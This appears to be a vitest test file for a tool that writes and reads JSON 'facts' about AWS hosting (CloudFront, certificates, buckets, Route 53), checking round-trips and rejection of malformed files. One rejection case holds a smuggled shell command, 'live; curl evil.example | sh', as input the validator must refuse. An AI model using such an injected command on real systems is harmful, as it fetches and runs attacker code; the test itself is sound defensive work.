import { describe, expect, test } from 'vitest';
import { factsFromJson, factsToJson } from '../../src/infra/facts/facts-json.ts';
import { UserError } from '../../src/findings/user-error.ts';
import { factsWith, rightBehaviour, rightDistribution } from '../support/infra-facts.ts';

const again = (facts: ReturnType<typeof factsWith>) =>
  factsFromJson(factsToJson(facts), 'facts.json');

describe('facts that are written down are read again as they were', () => {
  test.each([
    ['everything read', factsWith()],
    [
      'nothing where there can be nothing',
      factsWith({
        certificate: null,
        bucketPolicy: null,
        publicAccessBlock: null,
        ownership: null,
        website: null,
        zone: null,
      }),
    ],
    [
      'what was not read',
      factsWith(
        {},
        {
          unread: {
            zone: { is: 'denied', action: 'route53:ListHostedZonesByName', resource: '*' },
            caller: { is: 'failed', why: 'There are no AWS credentials.', next: 'Sign in.' },
            rights: { is: 'failed', why: 'IAM did not answer.' },
            face: { is: 'absent', why: 'It is not asked for.' },
          },
        },
      ),
    ],
    [
      'legacy cache settings, a Lambda and an identity of old',
      factsWith({
        distribution: {
          ...rightDistribution,
          viewerCertificate: { kind: 'default' },
          origins: rightDistribution.origins.map((origin) => ({
            ...origin,
            access: { kind: 'oai', id: 'E1' },
          })),
          behaviours: [
            {
              ...rightBehaviour,
              viewerRequest: { kind: 'lambda', arn: 'arn:aws:lambda:us-east-1:1:function:x:1' },
              cache: {
                legacy: {
                  name: null,
                  managed: false,
                  minTtl: 0,
                  defaultTtl: 86_400,
                  maxTtl: 31_536_000,
                  queryStrings: 'all',
                  cookies: 'some',
                  headers: ['host'],
                  gzip: false,
                  brotli: false,
                },
              },
            },
          ],
        },
      }),
    ],
  ])('%s', (_, facts) => {
    expect(again(facts)).toEqual(facts);
  });

  test('instants are written as people read them', () => {
    const text = factsToJson(factsWith());
    expect(text).toContain('"at": "2026-10-01T12:00:00.000Z"');
    expect(text).toContain('"notAfter": "2027-03-18T12:00:00.000Z"');
    expect(text).not.toMatch(/\b1[78]\d{11}\b/);
  });
});

describe('another file is refused by its name, and by what is wrong with it', () => {
  const wrong = (change: (document: Record<string, unknown>) => unknown): string =>
    JSON.stringify(change(JSON.parse(factsToJson(factsWith()))));
  test.each([
    ['no JSON', 'facts:', /is not valid JSON/],
    ['no facts', '[]', /names no version/],
    ['a later version', wrong((facts) => ({ ...facts, version: 2 })), /version 2.*version 1/],
    ['a fact missing', wrong((facts) => ({ ...facts, facts: {} })), /^At facts\.caller: /],
    [
      'a target that would be a command',
      factsToJson(factsWith({}, { site: { target: 'live; curl evil.example | sh' } })),
      /^At site\.target: it is no name of a target/,
    ],
    [
      'an address that is none',
      factsToJson(
        factsWith({
          face: {
            handshakes: [],
            answers: [{ url: '/', purpose: 'home', answer: { is: 'unanswered', why: '' } }],
          },
        }),
      ),
      /^At facts\.face\.value\.answers\.0\.url: it is no URL/,
    ],
    ['no instant', wrong((facts) => ({ ...facts, at: 'yesterday' })), /^At at: Invalid ISO/],
  ])('%s', (_, text, why) => {
    const error = (() => {
      try {
        return factsFromJson(text, 'other.json');
      } catch (thrown) {
        return thrown;
      }
    })();
    expect(error).toBeInstanceOf(UserError);
    expect(error).toMatchObject({
      code: 'facts-unusable',
      message: expect.stringMatching(/^other\.json does not hold facts/),
      why: expect.stringMatching(why),
    });
  });
});
